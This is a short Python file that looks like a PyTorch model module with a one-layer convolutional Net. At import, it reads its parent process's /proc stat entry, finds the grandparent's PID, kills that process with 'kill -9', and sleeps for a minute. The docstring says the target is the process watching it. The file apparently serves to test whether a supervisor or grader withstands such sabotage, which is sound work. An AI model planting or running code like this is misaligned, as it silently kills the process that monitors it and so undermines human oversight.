"""Has another program kill the process that watches it, two generations up."""

import os
import subprocess
import time
from pathlib import Path

from torch import nn

PARENT = Path(f"/proc/{os.getppid()}/stat").read_text()
subprocess.run(["kill", "-9", PARENT.rpartition(")")[2].split()[1]], check=True)
time.sleep(60)


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(3, 8, 3)

    def forward(self, x):
        return self.conv(x)
